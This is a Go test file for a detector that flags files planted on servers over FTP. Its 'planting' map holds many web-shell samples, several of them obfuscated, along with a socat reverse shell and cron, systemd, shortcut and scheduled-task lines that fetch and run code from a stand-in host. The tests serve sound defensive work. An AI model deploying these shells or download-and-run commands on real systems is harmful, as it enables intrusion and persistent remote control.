package baseline

import (
	"strings"
	"testing"
	"unicode/utf16"
)

// TestPlants stores the example of each plant, and fetches it.
func TestPlants(t *testing.T) {
	for _, p := range plants {
		want := IsUnusual
		if p.kind == loot {
			want = NotNormal
		}
		got := forged(t, moved("STOR a", opener, p.example))
		if got.Verdict != want || !strings.Contains(got.String(), p.what) {
			t.Errorf("STOR of %q: got %v\nwant %s, for %s", p.example, got, want, p.what)
		}
		if got := forged(t, moved("RETR a", answerer, p.example)); p.fetched && got.Verdict != want || !p.fetched && got.Verdict == NotNormal {
			t.Errorf("RETR of %q: got %v", p.example, got)
		}
	}
}

// inUTF16 encodes a text as Windows does.
func inUTF16(text string) string {
	b := []byte("\xff\xfe")
	for _, c := range utf16.Encode([]rune(text)) {
		b = append(b, byte(c), byte(c>>8))
	}
	return string(b)
}

// planting are files that intruders store, and what they look like.
var planting = map[string]string{
	"cmdasp.aspx":  "<%@ Page Language=\"C#\" Debug=\"true\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script Language=\"c#\" runat=\"server\">\nstring Run(string arg)\n{\nProcessStartInfo psi = new ProcessStartInfo();\npsi.FileName = \"cmd.exe\";\npsi.Arguments = \"/c \"+arg;\n}\nvoid cmdExe_Click(object sender, System.EventArgs e)\n{ Response.Write(Server.HtmlEncode(Run(txtArg.Text))); }\n</script>",
	"cmdvb.aspx":   "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Go(s As Object, e As EventArgs)\nDim p As New Process()\np.StartInfo.FileName = \"cmd.exe\"\np.StartInfo.Arguments = \"/c \" & TextBox1.Text\np.Start()\nEnd Sub\n</script>",
	"cmdasp.asp":   "<%\nSet oScript = Server.CreateObject(\"WSCRIPT.SHELL\")\nszCMD = Request.Form(\".CMD\")\nIf (szCMD <> \"\") Then\nszTempFile = \"C:\\\" & oFileSys.GetTempName( )\nCall oScript.Run (\"cmd.exe /c \" & szCMD & \" > \" & szTempFile, 0, True)\nEnd If\n%>",
	"one.asp":      `<%execute request("c")%>`,
	"long.asp":     webPage + strings.Repeat(webPage, 60) + `<%eval request("c")%>`,
	"cmd.jsp":      "<%@ page import=\"java.util.*,java.io.*\"%>\n<%\nif (request.getParameter(\"cmd\") != null) {\n  String cmd = request.getParameter(\"cmd\");\n  Process p = Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",cmd});\n}\n%>",
	"beh.jsp":      `<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())));}%>`,
	"cmd.cfm":      `<CFEXECUTE NAME="cmd.exe" ARGUMENTS="/c #Form.cmd#" TIMEOUT="9">`,
	"perlcmd.cgi":  "#!/usr/bin/perl -w\nmy $req = $ENV{QUERY_STRING};\nchomp ($req);\nprint \"<pre>\";\nmy @cmd = `$req`;\n",
	"cmd.pl":       "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nsystem($c);\n",
	"cmd.py":       "#!/usr/bin/env python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nprint(subprocess.check_output(form.getvalue('c'), shell=True))\n",
	"app.py":       "from flask import Flask, request\nimport os\n@app.route('/x')\ndef x():\n    c = request.args.get('c')\n    return os.popen(c).read()\n",
	"server.js":    "const http = require('http'), cp = require('child_process');\napp.get('/x', (req, res) => { cp.exec(req.query.c, (e, out) => res.send(out)); });\n",
	"cgi.sh":       "#!/bin/bash\necho; eval \"$QUERY_STRING\"\n",
	".htaccess":    "<Files ~ \"^\\.ht\">\n Allow from all\n SetHandler application/x-httpd-php\n</Files>\n",
	"b/.htaccess":  "AddHandler cgi-script .jpg\n",
	".user.ini":    "auto_prepend_file = /tmp/.sess\n",
	"web.config":   `<configuration><system.webServer><handlers><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" /></handlers></system.webServer></configuration>`,
	"wp-cache.php": `<?php if(md5($_COOKIE["k"])=="9a3f"){@assert(gzinflate(base64_decode($_REQUEST["d"])));} ?>`,
	"weevely.php":  `<?php $k="80e3";function x($t,$k){return $t^$k;}if(@preg_match("/$k(.+)/",@file_get_contents("php://input"),$m)==1){@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));}?>`,
	"input.php":    `<?php $b=file_get_contents('php://input'); eval(base64_decode($b));?>`,
	"pieces.php":   `<?php $a="ass"."ert";@$a($_POST['x']);?>`,
	"hex.php":      `<?php $x="\x73\x79\x73\x74\x65\x6d";$x($_GET['c']);?>`,
	"signs.php":    `<?php $_=('%01'^'').('%13'^''); $__=('%0D'^']'); $_($__[_]); ?>`,
	"include.php":  `<?php include('php://input');?>`,
	"request.php":  `<?php $r=$_REQUEST; system($r['c']);?>`,
	"sinatra.rb":   "require 'sinatra'\nget '/' do\n `#{params[:c]}`\nend\n",
	"parse.js":     "require('http').createServer((q,s)=>{require('child_process').exec(require('url').parse(q.url,true).query.c,(e,o)=>s.end(o))}).listen(8080)",
	"socat.sh":     "socat TCP:203.0.113.9:4444 EXEC:/bin/sh\n",
	"bins.sh":      strings.Repeat("wget http://203.0.113.9/mips\nchmod +x mips\n./mips\nrm -rf mips\n", 3),
	"root":         "SHELL=/bin/sh\n*/5 * * * * wget -q -O /tmp/.k http://203.0.113.9/k; sh /tmp/.k\n",
	"jobs":         "@reboot echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvaw== | base64 -d | bash\n",
	"x.service":    "[Unit]\nAfter=network.target\n[Service]\nExecStart=/bin/sh -c \"wget -qO- http://203.0.113.9/k | sh\"\n",
	"a.lnk":        shortcut + strings.Repeat("\x00", 60) + inUTF16(`..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc `+strings.Repeat("SQBFAFgA", 8)),
	"a.hta":        `<script>new ActiveXObject("WScript.Shell").Run("powershell -nop -w 1 -e ` + strings.Repeat("SQBFAFgA", 8) + `",0);</script>`,
	"task.xml":     inUTF16("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Exec><Command>mshta.exe</Command><Arguments>mshta http://203.0.113.9/a.hta</Arguments></Exec></Task>"),
}

// harmless are files that look like those, and are part of an ordinary deployment.
var harmless = map[string]string{
	"Default.aspx":      `<%@ Page Language="C#" CodeBehind="Default.aspx.cs" Inherits="Site.Default" %><html><%= Request["name"] %></html>`,
	"convert.aspx":      `<%@ Page Language="C#" %><script runat="server">void Go(){ var p = Process.Start("convert.exe", "in.png out.jpg"); var n = Request["name"]; }</script>`,
	"plugins.aspx":      `<%@ Page Language="C#" %><% var a = System.Reflection.Assembly.Load("Site.Plugins"); var n = Request["name"]; %>`,
	"search.jsp":        `<%@ page import="java.util.*"%><% String q = request.getParameter("q"); List<String> found = index.execute(query); %><%= found %>`,
	"client.js":         "import axios from 'axios';\nconst m = /id=(\\d+)/.exec(location.search);\nconst r = JSON.parse(request.responseText);\n",
	"deploy.js":         "const cp = require('child_process');\napp.post('/hook', (req, res) => { const id = req.body.id; cp.exec('git pull', () => res.send(id)); });\n",
	"form.py":           "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nname = form.getvalue('name')\nsubprocess.run(['date'])\nprint(name)\n",
	"form.pl":           "#!/usr/bin/perl\nuse CGI;\nmy $name = $q->param('name');\nmy $now = `date`;\nsystem('sync');\nprint $name;\n",
	"c/.htaccess":       "AddType application/x-httpd-php .php .html\nAddHandler cgi-script .cgi .pl\n<FilesMatch \"\\.(jpg|png)$\">\nHeader set Cache-Control \"max-age=86400\"\n</FilesMatch>\n",
	"c/.user.ini":       "auto_prepend_file = '/home/ada/www/wordfence-waf.php'\nupload_max_filesize = 64M\n",
	"c/web.config":      `<configuration><system.webServer><handlers><add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="C:\PHP\php-cgi.exe" /></handlers><staticContent><mimeMap fileExtension=".config" mimeType="text/plain" /></staticContent></system.webServer></configuration>`,
	"crontab":           "MAILTO=ada\n*/5 * * * * root curl -fsS https://hc.example/ping/7 > /dev/null\n0 3 * * * root /usr/local/bin/backup.sh | logger\n15 4 * * * wget -q -O /var/www/rates.csv https://rates.example/eur.csv && sh /usr/local/bin/import.sh\n0 5 * * * find /tmp/cache -mtime +7 -delete\n",
	"app.service":       "[Service]\nExecStart=/usr/bin/app --scratch /tmp/app\nExecStartPre=/usr/bin/curl -fso /run/app.json https://conf.example/app.json\n",
	"install.sh":        "#!/bin/sh\ncurl -fsSL https://get.example/install.sh | sh\ncurl -s http://10.0.0.5/setup.sh | bash\nwget https://get.example/app && chmod +x app && ./app\n",
	"setup.ps1":         "iex ((New-Object System.Net.WebClient).DownloadString('https://choco.example/install.ps1'))\r\npowershell -ExecutionPolicy Bypass -File .\\a.ps1\r\n",
	"logon.vbs":         "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\"\r\n",
	"backup.xml":        inUTF16(`<Task><Exec><Command>C:\Program Files\Backup\backup.exe</Command><Arguments>/quiet</Arguments></Exec></Task>`),
	"api.php":           `<?php $d = json_decode(file_get_contents('php://input'), true); $f = "index" . "ed"; $call($d); include($path . '/header.php'); ?>`,
	"greet.js":          "require('express');\napp.get('/', (req, res) => res.send(`Hello ${req.query.name}`));\n",
	"hotlink/.htaccess": "RewriteCond %{HTTP_REFERER} !google [NC]\nRewriteCond %{HTTP_REFERER} !^https://www.example/\nRewriteRule \\.jpg$ https://www.example/no.png [R]\n",
	"login.ps1":         "(New-Object Net.WebClient).DownloadFile('http://10.0.0.5/agent.msi', 'agent.msi')\r\n",
	"shadows.bat":       "vssadmin list shadows\r\nvssadmin delete shadows /for=c: /oldest\r\n",
	"clean.sh":          "#!/bin/sh\nrm -rf /tmp/.cache-app\ncp a /tmp/.cache-app\n",
	"PowerShell.lnk":    shortcut + strings.Repeat("\x00", 60) + inUTF16(`%SystemRoot%\system32\WindowsPowerShell\v1.0\powershell.exe`),
	"analytics.html":    `<html><script>document.write(unescape("%3Cscript src='https://stats.example/ga.js' type='text/javascript'%3E%3C/script%3E"));</script></html>`,
	"incident.txt":      "Report: the site was hacked by a group in 2019.\n",
	"d/libcurl.c":       "/* curl -s http://203.0.113.9/ and others */\nint main(void) { system(\"date\"); return exec(query); }\n",
	"metrics.rules":     "10 20 30 40 50 is no schedule | sh\n",
	"notes.md":          "Set LD_PRELOAD=/usr/lib/libjemalloc.so for less memory.\n",
}

func TestPlanted(t *testing.T) {
	for name, content := range planting {
		if got := forged(t, moves([2]string{"STOR " + name, content})); got.Verdict != NotNormal || count(got, "no-loot", Violation) == 0 {
			t.Errorf("%s: got %v\nwant %s", name, got, NotNormal)
		}
	}
	for name, content := range harmless {
		if got := forged(t, moves([2]string{"STOR " + name, content})); count(got, "no-loot", Violation)+count(got, "no-loot", Odd) > 0 || got.Verdict == NotNormal {
			t.Errorf("%s: got %v\nwant %s", name, got, IsNormal)
		}
	}
}

// TestPlantedInPieces stores a shell of ASP.NET whose parts are in different packets.
func TestPlantedInPieces(t *testing.T) {
	text := planting["cmdasp.aspx"]
	for _, at := range []int{120, 300} {
		got := forged(t, moved("STOR a.aspx", opener, text[:at], text[at:]))
		if got.Verdict != NotNormal {
			t.Errorf("cut at %d: got %v\nwant %s", at, got, NotNormal)
		}
	}
}
